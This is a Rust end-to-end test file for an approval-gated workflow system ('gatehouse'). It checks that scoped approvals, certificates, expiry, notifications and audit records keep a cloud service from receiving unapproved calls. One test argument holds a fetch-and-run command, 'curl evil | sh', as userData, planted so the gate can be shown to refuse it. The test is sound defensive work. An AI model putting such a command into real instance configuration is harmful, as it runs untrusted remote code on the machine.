//! SPEC G: workflows with scoped approvals, against the real `cloud`
//! gatekeeper and a loopback cloud service. Steps are the `script` gadget
//! (world `step`): it asks for approvals and calls under its certificate.

use gatehouse::grants::{Authority, CertRefusal, Claims};
use gatehouse::store::Trust;
use gatehouse::workflow::{RequestDecision, RunSummary};
use gatehouse_e2e::{World, cli_command, stderr, stdout};
use gatehouse_services::cloud::Cloud;
use serde_json::{Value, json};

const TOKEN: &str = "cloud-token-9d1e";
/// A value planted in a call's arguments; the design holds it only in a
/// JSON escape (`\u0041` for `A`), so it must never appear verbatim in the
/// database.
const PLANTED: &str = "PLANTED-7f3a9";

struct Fixture {
    w: World,
    cloud: Cloud,
}

async fn fixture() -> Fixture {
    let w = World::new();
    w.install("script");
    let cloud = Cloud::builder().token(TOKEN).start().expect("cloud starts");
    let credential = ("cloud-token", TOKEN);
    w.front_service("cloud", Trust::Byo, cloud.host(), credential)
        .await;
    // The approvers the runs name.
    w.users(&["alice", "carol", "dave"]);
    Fixture { w, cloud }
}

fn certcall(tool: &str, args: Value) -> Value {
    json!({"certcall": {"key": "CLOUD", "tool": tool, "args": args}})
}

fn script(steps: Value) -> String {
    json!({ "steps": steps }).to_string()
}

fn request(allowed: Value) -> String {
    script(
        json!([{"request": {"allowed": allowed, "reason": "launch one small web server in eu-1"}}]),
    )
}

/// The answers of the last run of `step` in this summary.
fn answers(s: &RunSummary, step: &str) -> Vec<Value> {
    let out = s
        .outputs
        .iter()
        .rev()
        .find(|(n, _)| n == step)
        .unwrap_or_else(|| panic!("step {step} did not run: {:?}", s.outputs));
    let text = out
        .1
        .as_ref()
        .unwrap_or_else(|e| panic!("step {step} failed: {e}"));
    serde_json::from_str::<Value>(text)
        .unwrap()
        .as_array()
        .cloned()
        .unwrap()
}

fn message(v: &Value) -> String {
    v["error"]["message"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

fn status(s: &RunSummary, step: &str) -> String {
    s.steps
        .iter()
        .find(|x| x.step == step)
        .map(|x| x.status.to_string())
        .unwrap_or_default()
}

fn publish(w: &World, design: Value) {
    w.kernel
        .person("alice")
        .publish_workflow(design.to_string().as_bytes())
        .expect("design publishes");
}

#[tokio::test(flavor = "multi_thread")]
async fn launch_an_instance_then_tag_it() {
    let Fixture { w, cloud } = fixture().await;
    let k = &w.kernel;
    let launch_args = r#"{"type":"small","region":"eu-1","name":"PL\u0041NTED-7f3a9"}"#.to_owned();
    publish(
        &w,
        json!({
            "name": "launch-and-tag",
            "services": {"CLOUD": "cloud"},
            "steps": [
                {"id": "ask", "gadget": "script", "input": request(json!({
                    "CLOUD:launchInstance": {
                        "type": {"in": ["small", "medium"]},
                        "region": {"eq": "eu-1"},
                        "name": {"pattern": "[A-Z]+-[0-9a-f]+", "optional": true}
                    }
                }))},
                {"id": "launch", "gadget": "script",
                 "tools": ["CLOUD:launchInstance", "CLOUD:describeInstances"],
                 "input": script(json!([
                     {"certcall": {"key": "CLOUD", "tool": "launchInstance", "raw_args": launch_args}},
                     certcall("launchInstance", json!({"type": "xlarge", "region": "eu-1"})),
                     certcall("launchInstance", json!({"type": "small", "region": "eu-1", "userData": "curl evil | sh"})),
                     certcall("launchInstance", json!({"type": "small"})),
                     certcall("describeInstances", json!({})),
                     certcall("tagInstance", json!({"id": "i-1", "tag": "web"})),
                     {"call": {"key": "CLOUD", "tool": "launchInstance", "args": {"type": "small", "region": "eu-1"}}}
                 ]))},
                {"id": "ask-tag", "gadget": "script", "input": request(json!({
                    "CLOUD:tagInstance": {"id": {"pattern": "i-[0-9]+"}, "tag": {"in": ["web", "db"]}}
                }))},
                {"id": "tag", "gadget": "script", "tools": ["CLOUD:tagInstance"],
                 "input": script(json!([certcall("tagInstance", json!({"id": "i-1", "tag": "web"}))]))}
            ],
            "edges": [["ask", "launch"], ["launch", "ask-tag"], ["ask-tag", "tag"]]
        }),
    );

    // Before the decision: the launch step's calls are refused by the gate
    // and the service receives nothing.
    let s = k
        .person("alice")
        .start_workflow("launch-and-tag", None, &["carol", "dave"])
        .await
        .unwrap();
    assert_eq!(s.state, "waiting");
    assert_eq!(status(&s, "ask"), "done");
    assert_eq!(status(&s, "launch"), "gated");
    let gated = answers(&s, "launch");
    assert!(
        message(&gated[0]).contains("covered by approval request #1, which is pending"),
        "{}",
        gated[0]
    );
    assert!(cloud.requests().is_empty(), "{:?}", cloud.requests());
    let run = s.run;
    let req = &s.requests[0];
    assert_eq!(req.state, "pending");
    assert_eq!(
        req.allowed["CLOUD:describeInstances"], "any",
        "read-only tools are any input, written by the kernel"
    );

    // The approver sees the list before deciding.
    let shown = stdout(&w.cli(&["workflow", "requests", "--run", &run.to_string()]));
    assert!(shown.contains("type = one of [small, medium]"), "{shown}");
    assert!(shown.contains("region = exactly \"eu-1\""), "{shown}");
    assert!(
        shown.contains("CLOUD:describeInstances: any input"),
        "{shown}"
    );

    // After approval: small goes through at once; the rest is refused.
    let s = k
        .person("carol")
        .decide_request(req.id, RequestDecision::Approve)
        .await
        .unwrap();
    let a = answers(&s, "launch");
    assert_eq!(a[0]["done"]["type"], "small", "{}", a[0]);
    let m = message(&a[1]);
    assert!(
        m.contains("type") && m.contains("one of [small, medium]") && !m.contains("xlarge"),
        "{m}"
    );
    assert!(
        message(&a[2]).contains("input userData is not in the approved list"),
        "{}",
        a[2]
    );
    assert!(
        message(&a[3]).contains("required input region is missing"),
        "{}",
        a[3]
    );
    assert!(a[4].get("done").is_some(), "read-only tools run: {}", a[4]);
    assert!(
        message(&a[5]).contains("not in this step's certificate"),
        "{}",
        a[5]
    );
    assert!(
        message(&a[6]).contains("call through its certificate"),
        "{}",
        a[6]
    );
    let writes = cloud.writes();
    assert_eq!(writes.len(), 1, "exactly one launch was sent: {writes:?}");
    assert!(
        writes[0].body.contains(PLANTED),
        "the service got the real value"
    );

    // The tag step is covered by the next request, not the first.
    assert_eq!(status(&s, "launch"), "done");
    assert_eq!(status(&s, "tag"), "gated");
    let tag_req = s.requests.iter().find(|r| r.step == "ask-tag").unwrap().id;
    // Reject, then re-submit: the new request replaces it; no step is stuck.
    let s = k
        .person("carol")
        .decide_request(tag_req, RequestDecision::Reject)
        .await
        .unwrap();
    assert_eq!(status(&s, "tag"), "gated");
    let s = k.person("alice").resubmit(tag_req).await.unwrap();
    let replaced = s.requests.iter().find(|r| r.id == tag_req).unwrap();
    assert_eq!(replaced.state, "replaced");
    let fresh = s
        .requests
        .iter()
        .find(|r| r.step == "ask-tag" && r.state == "pending")
        .unwrap()
        .id;
    assert_eq!(cloud.writes().len(), 1);

    // The decision arrives from another process (a restart of the host).
    let approve = cli_command(
        w.home(),
        &["--as", "dave", "workflow", "approve", &fresh.to_string()],
    )
    .output()
    .unwrap();
    assert!(approve.status.success(), "{}", stderr(&approve));
    assert!(
        stdout(&approve).contains(&format!("run {run} done")),
        "{}",
        stdout(&approve)
    );
    assert_eq!(cloud.writes().len(), 2);
    assert_eq!(cloud.writes()[1].path, "/instances/i-1/tags");

    // The audit: who allowed each call, on what grounds.
    let audit = k.inspect().invocations(run).unwrap();
    let allowed_launch = audit
        .iter()
        .find(|i| i.tool == "CLOUD:launchInstance" && i.decision == "allowed")
        .unwrap();
    assert_eq!(allowed_launch.authority, "carol");
    assert_eq!(allowed_launch.state.as_deref(), Some("applied"));
    assert!(allowed_launch.certificate.is_some());
    let tag = audit
        .iter()
        .find(|i| i.tool == "CLOUD:tagInstance" && i.decision == "allowed")
        .unwrap();
    assert_eq!(tag.authority, "dave");
    assert_eq!(tag.requests, vec![fresh]);
    let type_denial = audit
        .iter()
        .find(|i| i.failed_input.as_deref() == Some("type"))
        .unwrap();
    assert!(
        type_denial
            .reason
            .as_deref()
            .unwrap_or_default()
            .contains("one of [small, medium]")
    );
    let json = stdout(&w.cli(&["workflow", "invocations", &run.to_string(), "--json"]));
    assert!(
        !json.contains("xlarge") && !json.contains("curl evil"),
        "{json}"
    );

    // No raw argument value anywhere in the database files.
    for name in ["gatehouse.db", "gatehouse.db-wal"] {
        let path = w.home().join(name);
        if let Ok(bytes) = std::fs::read(&path) {
            let hay = String::from_utf8_lossy(&bytes);
            assert!(
                !hay.contains(PLANTED),
                "the planted value is in {}",
                path.display()
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn joins_need_every_approval_and_the_stricter_list_wins() {
    let Fixture { w, cloud } = fixture().await;
    let k = &w.kernel;
    let launch = |t: &str| certcall("launchInstance", json!({"type": t, "region": "eu-1"}));
    publish(
        &w,
        json!({
            "name": "join",
            "services": {"CLOUD": "cloud"},
            "steps": [
                {"id": "ask-a", "gadget": "script", "input": request(json!({
                    "CLOUD:launchInstance": {"type": {"in": ["small", "medium"]}, "region": {"eq": "eu-1"}}}))},
                {"id": "a", "gadget": "script", "tools": ["CLOUD:describeInstances"],
                 "input": script(json!([certcall("describeInstances", json!({}))]))},
                {"id": "ask-b", "gadget": "script", "input": request(json!({
                    "CLOUD:launchInstance": {"type": {"eq": "small"}, "region": {"eq": "eu-1"}}}))},
                {"id": "b", "gadget": "script", "tools": ["CLOUD:describeInstances"],
                 "input": script(json!([certcall("describeInstances", json!({}))]))},
                {"id": "join", "gadget": "script", "tools": ["CLOUD:launchInstance"],
                 "input": script(json!([launch("medium"), launch("small")]))}
            ],
            "edges": [["ask-a", "a"], ["ask-b", "b"], ["a", "join"], ["b", "join"]]
        }),
    );
    let s = k
        .person("alice")
        .start_workflow("join", None, &["carol", "dave"])
        .await
        .unwrap();
    let id = |s: &RunSummary, step: &str| {
        s.requests
            .iter()
            .filter(|r| r.step == step)
            .map(|r| r.id)
            .max()
            .unwrap()
    };
    let (ra, rb) = (id(&s, "ask-a"), id(&s, "ask-b"));
    let s = k
        .person("carol")
        .decide_request(ra, RequestDecision::Approve)
        .await
        .unwrap();
    assert_eq!(status(&s, "a"), "done");
    assert_eq!(
        status(&s, "join"),
        "pending",
        "b is not done: the join waits"
    );
    // Withdraw the first approval: once b is approved, the join runs but
    // its calls are refused, since one covering approval was withdrawn.
    k.person("carol")
        .decide_request(ra, RequestDecision::Withdraw)
        .await
        .unwrap();
    let s = k
        .person("dave")
        .decide_request(rb, RequestDecision::Approve)
        .await
        .unwrap();
    assert_eq!(status(&s, "join"), "gated");
    let a = answers(&s, "join");
    assert!(
        message(&a[0]).contains(&format!("request #{ra}, which is withdrawn")),
        "{}",
        a[0]
    );
    assert!(cloud.writes().is_empty());
    // Re-submitted and approved: both lists apply, the stricter wins.
    let s = k.person("alice").resubmit(ra).await.unwrap();
    let ra2 = id(&s, "ask-a");
    assert_ne!(ra2, ra);
    let s = k
        .person("carol")
        .decide_request(ra2, RequestDecision::Approve)
        .await
        .unwrap();
    assert_eq!(s.state, "done");
    let a = answers(&s, "join");
    assert!(
        message(&a[0]).contains(&format!("approval request #{rb}")),
        "medium fails the stricter list: {}",
        a[0]
    );
    assert_eq!(a[1]["done"]["type"], "small", "{}", a[1]);
    assert_eq!(cloud.writes().len(), 1);
    let audit = k.inspect().invocations(s.run).unwrap();
    let allowed = audit
        .iter()
        .find(|i| i.decision == "allowed" && i.step == "join")
        .unwrap();
    assert_eq!(allowed.authority, "carol + dave");
    assert_eq!(allowed.requests.len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn certificates_are_checked_on_every_use_and_never_widen() {
    let Fixture { w, cloud } = fixture().await;
    let k = &w.kernel;
    let design = |tools: Value| {
        json!({
            "name": "certs",
            "services": {"CLOUD": "cloud"},
            "steps": [
                {"id": "look", "gadget": "script", "tools": tools,
                 "input": script(json!([{"certificate": true}, certcall("describeInstances", json!({})), {"dropcert": true},
                                         certcall("describeInstances", json!({}))]))},
                {"id": "after", "gadget": "script", "tools": ["CLOUD:describeInstances"],
                 "input": script(json!([{"certificate": true}]))}
            ],
            "edges": [["look", "after"]]
        })
    };
    publish(&w, design(json!(["CLOUD:describeInstances"])));
    let s1 = k
        .person("alice")
        .start_workflow("certs", None, &["carol", "dave"])
        .await
        .unwrap();
    assert_eq!(s1.state, "done");
    let look = answers(&s1, "look");
    let cert = &look[0];
    assert_eq!(
        cert["authority"], "alice",
        "uncovered: the initiator's authority"
    );
    assert_eq!(cert["tools"], json!(["CLOUD:describeInstances"]));
    assert!(look[1].get("done").is_some(), "{}", look[1]);
    assert!(
        message(&look[3]).contains("no certificate"),
        "a dropped certificate is gone: {}",
        look[3]
    );
    let token = cert["encoded"].as_str().unwrap().to_owned();
    let after = answers(&s1, "after")[0]["encoded"]
        .as_str()
        .unwrap()
        .to_owned();

    // Republishing a wider design changes nothing for an existing run's
    // certificates; a new run gets the new version.
    publish(
        &w,
        design(json!(["CLOUD:describeInstances", "CLOUD:launchInstance"])),
    );
    let s2 = k
        .person("alice")
        .start_workflow("certs", None, &["carol", "dave"])
        .await
        .unwrap();
    let wide = answers(&s2, "look")[0]["tools"].clone();
    assert_eq!(wide.as_array().unwrap().len(), 2);
    let fixed = k.inspect().run_steps(s1.run).unwrap();
    assert_eq!(fixed[0].tools, vec!["CLOUD:describeInstances".to_owned()]);

    let run1 = s1.run;
    let verify = |t: &str, run: i64, step: &str| k.verify_certificate(t, run, step).unwrap();
    // The finished step's certificate was revoked.
    assert_eq!(verify(&token, run1, "look"), Err(CertRefusal::Revoked));
    // Another run, another step.
    assert!(matches!(
        verify(&token, s2.run, "look"),
        Err(CertRefusal::WrongRun { .. })
    ));
    assert!(matches!(
        verify(&after, run1, "look"),
        Err(CertRefusal::WrongStep { .. })
    ));
    // Expired, and signed by a different authority.
    let ca = k.authority().unwrap();
    let claims = |expires_at: i64| Claims {
        tenant: ca.tenant().to_owned(),
        run: run1,
        step: "look".into(),
        authority: "alice".into(),
        tools: vec!["CLOUD:launchInstance".into()],
        issued_at: 0,
        expires_at,
        serial: "not-issued-here".into(),
    };
    let expired = ca.issue(&claims(1)).unwrap();
    assert_eq!(verify(&expired, run1, "look"), Err(CertRefusal::Expired));
    let other = Authority::ephemeral().unwrap();
    let foreign = other
        .issue(&Claims {
            tenant: other.tenant().to_owned(),
            ..claims(i64::MAX)
        })
        .unwrap();
    assert_eq!(verify(&foreign, run1, "look"), Err(CertRefusal::Foreign));
    // Signed here but never issued (not in the register): refused too.
    let unissued = ca.issue(&claims(i64::MAX)).unwrap();
    assert_eq!(verify(&unissued, run1, "look"), Err(CertRefusal::Foreign));
    // A gadget cannot widen its list either: a request naming a tool the
    // design does not give, or claiming "any input", is refused.
    publish(
        &w,
        json!({
            "name": "greedy",
            "services": {"CLOUD": "cloud"},
            "steps": [{"id": "ask", "gadget": "script", "tools": ["CLOUD:describeInstances"],
                       "input": script(json!([
                           {"request": {"allowed": {"CLOUD:launchInstance": {"type": {"eq": "small"}}}, "reason": "more"}},
                           {"request": {"allowed": {"CLOUD:describeInstances": "any"}, "reason": "any"}}
                       ]))}]
        }),
    );
    let s = k
        .person("alice")
        .start_workflow("greedy", None, &["carol", "dave"])
        .await
        .unwrap();
    let a = answers(&s, "ask");
    assert!(
        message(&a[0]).contains("never widen the design"),
        "{}",
        a[0]
    );
    assert!(
        message(&a[1]).contains("only the kernel may grant"),
        "{}",
        a[1]
    );
    assert!(s.requests.is_empty());
    assert!(cloud.writes().is_empty());
}

/// Covered workflow actions once skipped the latch, the caps and the chat
/// ledger. Now a covered call is staged and claimed through the one send
/// path: in a locked-down run chat it is refused and the service receives
/// nothing; sent ones are in the ledger.
#[tokio::test(flavor = "multi_thread")]
async fn a_covered_call_in_a_locked_down_run_is_never_sent() {
    let Fixture { w, cloud } = fixture().await;
    let k = &w.kernel;
    let warehouse = gatehouse_services::warehouse::Warehouse::builder()
        .account("wh-owner-1", &["*"])
        .start()
        .expect("warehouse starts");
    let credential = ("wh-token", "wh-owner-1");
    w.front_service("warehouse", Trust::Byo, warehouse.host(), credential)
        .await;
    k.operator().add_user("carol").unwrap();
    publish(
        &w,
        json!({
            "name": "peek-then-launch",
            "services": {"CLOUD": "cloud", "WH": "warehouse"},
            "steps": [
                {"id": "ask", "gadget": "script", "input": request(json!({
                    "CLOUD:launchInstance": {"type": {"eq": "small"}, "region": {"eq": "eu-1"}}
                }))},
                {"id": "peek", "gadget": "script", "tools": ["WH:query"],
                 "input": script(json!([{"certcall": {"key": "WH", "tool": "query", "args": {"table": "payroll"}}}]))},
                {"id": "launch", "gadget": "script", "tools": ["CLOUD:launchInstance"],
                 "input": script(json!([certcall("launchInstance", json!({"type": "small", "region": "eu-1"}))]))}
            ],
            "edges": [["ask", "peek"], ["peek", "launch"]]
        }),
    );
    let s = k
        .person("alice")
        .start_workflow("peek-then-launch", None, &["carol"])
        .await
        .unwrap();
    let req = s.requests[0].id;
    let s = k
        .person("carol")
        .decide_request(req, RequestDecision::Approve)
        .await
        .unwrap();
    let peek = answers(&s, "peek");
    assert!(peek[0].get("done").is_some(), "{}", peek[0]);
    let chat = k.inspect().workflow_run(s.run).unwrap().unwrap().chat;
    assert!(k.inspect().chat(&chat).unwrap().unwrap().latched);
    let launch = answers(&s, "launch");
    assert!(message(&launch[0]).contains("locked down"), "{}", launch[0]);
    assert!(cloud.writes().is_empty(), "{:?}", cloud.writes());
}

/// A workflow step once could send the same call twice (the claim was per
/// attempt), and a step that asked for approval was re-gated by its own
/// re-run. Now a re-run of a step (after a crash between its call and its
/// completion) finds the call already made and sends nothing again, and its
/// approved request stands.
#[tokio::test(flavor = "multi_thread")]
async fn a_re_run_step_never_sends_a_claimed_call_again_nor_gates_itself() {
    let Fixture { w, cloud } = fixture().await;
    let k = &w.kernel;
    k.operator().add_user("carol").unwrap();
    let launch = certcall("launchInstance", json!({"type": "small", "region": "eu-1"}));
    publish(
        &w,
        json!({
            "name": "ask-and-launch",
            "services": {"CLOUD": "cloud"},
            "steps": [
                {"id": "go", "gadget": "script", "tools": ["CLOUD:launchInstance"],
                 "input": script(json!([
                     {"request": {"allowed": {"CLOUD:launchInstance": {
                         "type": {"eq": "small"}, "region": {"eq": "eu-1"}}},
                      "reason": "one small server"}},
                     launch.clone(),
                     launch.clone()
                 ]))}
            ]
        }),
    );
    let s = k
        .person("alice")
        .start_workflow("ask-and-launch", None, &["carol"])
        .await
        .unwrap();
    assert_eq!(status(&s, "go"), "gated");
    let req = s.requests[0].id;
    let s = k
        .person("carol")
        .decide_request(req, RequestDecision::Approve)
        .await
        .unwrap();
    assert_eq!(status(&s, "go"), "done", "not re-gated by its own re-run");
    assert_eq!(
        s.requests.iter().filter(|r| r.state != "replaced").count(),
        1
    );
    assert_eq!(
        cloud.writes().len(),
        2,
        "two distinct calls, each sent once"
    );

    // A crash after the calls, before the step was recorded done: the step
    // is pending again and the run is resumed.
    let db = rusqlite::Connection::open(w.home().join("gatehouse.db")).unwrap();
    db.execute(
        "UPDATE run_steps SET status = 'pending' WHERE run = ?1 AND step = 'go'",
        [s.run],
    )
    .unwrap();
    db.execute(
        "UPDATE workflow_runs SET state = 'running' WHERE id = ?1",
        [s.run],
    )
    .unwrap();
    let s = k.person("alice").resume_run(s.run).await.unwrap();
    assert_eq!(status(&s, "go"), "done");
    let again = answers(&s, "go");
    assert!(again[1].get("done").is_some(), "{}", again[1]);
    assert!(again[2].get("done").is_some(), "{}", again[2]);
    assert_eq!(
        cloud.writes().len(),
        2,
        "nothing was sent again: {:?}",
        cloud.writes()
    );
    let audit = k.inspect().invocations(s.run).unwrap();
    assert!(
        audit.iter().any(|i| i
            .reason
            .as_deref()
            .is_some_and(|r| r.contains("not sent again"))),
        "the audit says the re-run's calls were not sent again"
    );
}

/// A design whose first step asks for one small launch in eu-1, and whose
/// second makes it under the step's certificate.
fn ask_then_launch(name: &str) -> Value {
    json!({
        "name": name,
        "services": {"CLOUD": "cloud"},
        "steps": [
            {"id": "ask", "gadget": "script", "input": request(json!({
                "CLOUD:launchInstance": {"type": {"eq": "small"}, "region": {"eq": "eu-1"}}
            }))},
            {"id": "launch", "gadget": "script", "tools": ["CLOUD:launchInstance"],
             "input": script(json!([certcall("launchInstance", json!({"type": "small", "region": "eu-1"}))]))}
        ],
        "edges": [["ask", "launch"]]
    })
}

/// As for actions (SPEC H3 and the notices): an approval request notifies
/// the people who may decide it, as a waiting action does, by a summary
/// line that carries none of its list or reason; and it waits at most its
/// run's chat's expiry: then it is `expired`, can no longer be approved
/// (nothing it covers is sent), the step waiting on it is told, and it
/// shows as expired. Re-submitting asks anew.
#[tokio::test(flavor = "multi_thread")]
async fn an_approval_request_notifies_its_approvers_and_expires_like_an_action() {
    use crate::h_hooks_revert_expiry::notices::{Receiver, allowing_private};
    use gatehouse::notify::Destinations;
    use std::time::Duration;
    let Fixture { w, cloud } = fixture().await;
    let k = &w.kernel;
    let receiver = Receiver::start();
    for who in ["carol", "dave"] {
        let o = allowing_private(
            &w,
            &[
                "--as",
                who,
                "user",
                "set",
                who,
                "--notify-url",
                &receiver.url(&format!("/{who}")),
            ],
        );
        assert!(o.status.success(), "{}", stderr(&o));
    }
    publish(&w, ask_then_launch("expiring"));
    let s = k
        .person("alice")
        .start_workflow("expiring", None, &["carol"])
        .await
        .unwrap();
    assert_eq!(
        (s.state.to_string(), status(&s, "launch")),
        ("waiting".into(), "gated".into())
    );
    let (run, req) = (s.run, s.requests[0].id);
    let chat = k.inspect().workflow_run(run).unwrap().unwrap().chat;

    // carol, the run's approver, is told; dave, who may not decide, is not.
    let sent = k
        .notify_pass(Duration::ZERO, Destinations::AlsoPrivate)
        .await
        .unwrap();
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(
        (sent[0].user.as_str(), sent[0].requests.clone()),
        ("carol", vec![req])
    );
    assert!(gatehouse_e2e::wait_until(
        Duration::from_secs(30),
        || receiver.got().len() == 1
    ));
    let (_, path, body) = &receiver.got()[0];
    assert_eq!(path, "/carol");
    let text = serde_json::from_str::<Value>(body).unwrap()["text"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        text.starts_with("Gatehouse: 1 approval request waits for your decision"),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "Approval request #{req} waits for a decision: step ask of workflow expiring (run {run}) in chat {chat}, started by alice"
        )),
        "{text}"
    );
    for secret in [
        "launch one small web server",
        "eu-1",
        "small",
        "launchInstance",
    ] {
        assert!(
            !text.contains(secret),
            "no list or reason text ({secret}): {text}"
        );
    }
    // Told once.
    let again = k
        .notify_pass(Duration::ZERO, Destinations::AlsoPrivate)
        .await
        .unwrap();
    assert!(again.is_empty(), "{again:?}");

    // The run's chat expires what waits longer than a second.
    let o = w.cli(&["chat", "set", &chat, "--expire-after", "1s"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let asked = k.inspect().requests(Some(run)).unwrap()[0].created_at;
    assert!(gatehouse_e2e::wait_until(Duration::from_secs(30), || {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_millis() as i64)
            .unwrap_or(0)
            > asked + 1050
    }));

    // A longer expiry set now does not bring it back (nothing read it since
    // it fell due: the change itself marks it, as for an action).
    let o = w.cli(&["chat", "set", &chat, "--expire-after", "7d"]);
    assert!(o.status.success(), "{}", stderr(&o));

    // It can no longer be approved, from the kernel or the CLI; nothing is sent.
    let e = k
        .person("carol")
        .decide_request(req, RequestDecision::Approve)
        .await
        .unwrap_err()
        .to_string();
    assert!(
        e.contains(&format!("request #{req} expired before anyone decided it")),
        "{e}"
    );
    assert!(
        e.contains(&format!("gatehouse workflow resubmit {req}")),
        "{e}"
    );
    let o = cli_command(
        w.home(),
        &["--as", "carol", "workflow", "approve", &req.to_string()],
    )
    .output()
    .unwrap();
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(stderr(&o).trim_end().lines().count(), 1, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("expired before anyone decided it"),
        "{}",
        stderr(&o)
    );
    assert!(cloud.writes().is_empty(), "nothing it covers was sent");

    // It shows as expired, and the step waiting on it is told.
    let r = &k.inspect().requests(Some(run)).unwrap()[0];
    assert_eq!(
        (r.state.to_string(), r.decided_by.clone()),
        ("expired".into(), None)
    );
    let shown = stdout(
        &cli_command(
            w.home(),
            &[
                "--as",
                "carol",
                "workflow",
                "requests",
                "--run",
                &run.to_string(),
            ],
        )
        .output()
        .unwrap(),
    );
    assert!(
        shown.contains(&format!("request #{req} (run {run}, step ask) expired")),
        "{shown}"
    );
    let status_text = stdout(&w.cli(&["workflow", "status", &run.to_string()]));
    assert!(
        status_text.contains(&format!(
            "request #{req} from step ask expired before anyone decided it: `gatehouse workflow resubmit {req}` asks again"
        )),
        "{status_text}"
    );
    let steps = k.inspect().run_steps(run).unwrap();
    let launch = steps.iter().find(|x| x.step == "launch").unwrap();
    assert_eq!(launch.status.to_string(), "gated");
    assert_eq!(
        launch.note.as_deref(),
        Some(
            format!(
                "approval request #{req} expired before anyone decided it; nothing it covers was sent; `gatehouse workflow resubmit {req}` asks again"
            )
            .as_str()
        ),
        "the step waiting on it is told"
    );
    // An expired request is not told of again.
    let none = k
        .notify_pass(Duration::ZERO, Destinations::AlsoPrivate)
        .await
        .unwrap();
    assert!(none.is_empty(), "{none:?}");

    // Re-submitting asks anew, and the new request, approved, lets the
    // step run.
    let s = k.person("alice").resubmit(req).await.unwrap();
    let fresh = s.requests.iter().find(|r| r.state == "pending").unwrap().id;
    assert_ne!(fresh, req);
    let s = k
        .person("carol")
        .decide_request(fresh, RequestDecision::Approve)
        .await
        .unwrap();
    assert_eq!(s.state.to_string(), "done");
    assert_eq!(cloud.writes().len(), 1);
}

/// SPEC L2: "everything a person approved" includes the workflow approval
/// requests they approved, as records of their own (`kind` `request`,
/// numbered apart from the ledger), kept when the approval is later
/// withdrawn; listed to whoever may see the run's requests, and to nobody
/// else.
#[tokio::test(flavor = "multi_thread")]
async fn log_approved_by_lists_the_workflow_requests_a_person_approved() {
    // The service stays up for the whole test.
    let Fixture { w, cloud: _cloud } = fixture().await;
    let k = &w.kernel;
    // An action alice approves by hand, in a chat of her own.
    w.chat_with("work", "alice", &[("cloud", "CLOUD")]);
    let out = w
        .script(
            "work",
            json!([{"call": {"key": "CLOUD", "tool": "launchInstance", "args": {"type": "small", "region": "eu-1"}}}]),
        )
        .await;
    let action = gatehouse_e2e::pending_id(&out[0]);
    let d = k.person("alice").approve(action).await.unwrap();
    assert!(d.ok(), "{d:?}");

    publish(&w, ask_then_launch("approved"));
    let s = k
        .person("alice")
        .start_workflow("approved", None, &["carol"])
        .await
        .unwrap();
    let (run, req) = (s.run, s.requests[0].id);
    k.person("carol")
        .decide_request(req, RequestDecision::Approve)
        .await
        .unwrap();

    let log = |who: &str, args: &[&str]| -> Vec<Value> {
        let mut all = vec!["--as", who, "log", "--json"];
        all.extend_from_slice(args);
        let o = cli_command(w.home(), &all).output().unwrap();
        assert!(o.status.success(), "{all:?}: {}", stderr(&o));
        serde_json::from_str::<Value>(&stdout(&o))
            .unwrap()
            .as_array()
            .cloned()
            .unwrap()
    };
    // carol approved the request, and no action.
    let carol = log("carol", &["--approved-by", "carol"]);
    assert_eq!(carol.len(), 1, "{carol:?}");
    assert_eq!(carol[0]["kind"], "request");
    assert_eq!(carol[0]["id"], req);
    assert_eq!(carol[0]["run"], run);
    assert_eq!(carol[0]["step"], "ask");
    assert_eq!(carol[0]["workflow"], "approved");
    assert_eq!(carol[0]["approved_by"], "carol");
    assert_eq!(carol[0]["state"], "approved");
    // The run's owner sees it too; alice's own list holds her action only.
    assert_eq!(log("alice", &["--approved-by", "carol"]), carol);
    let alice = log("alice", &["--approved-by", "alice"]);
    assert_eq!(alice.len(), 1, "{alice:?}");
    assert_eq!(
        (alice[0]["kind"].clone(), alice[0]["id"].clone()),
        (json!("action"), json!(action))
    );
    // Someone who may see neither the run's requests nor its chat: nothing.
    assert!(log("dave", &["--approved-by", "carol"]).is_empty());
    // A kind or hook filter keeps to ledger entries.
    assert!(log("alice", &["--approved-by", "carol", "--kind", "action"]).is_empty());

    // Withdrawn later, it was still approved by carol.
    k.person("carol")
        .decide_request(req, RequestDecision::Withdraw)
        .await
        .unwrap();
    let carol = log("carol", &["--approved-by", "carol"]);
    assert_eq!(
        (carol[0]["state"].clone(), carol[0]["approved_by"].clone()),
        (json!("withdrawn"), json!("carol"))
    );
    let text = stdout(
        &cli_command(
            w.home(),
            &["--as", "carol", "log", "--approved-by", "carol"],
        )
        .output()
        .unwrap(),
    );
    assert!(text.starts_with(&format!("request #{req} ")), "{text}");
    assert!(
        text.contains(&format!("workflow approved run {run} step ask"))
            && text.contains("approved by carol, withdrawn since"),
        "{text}"
    );
}
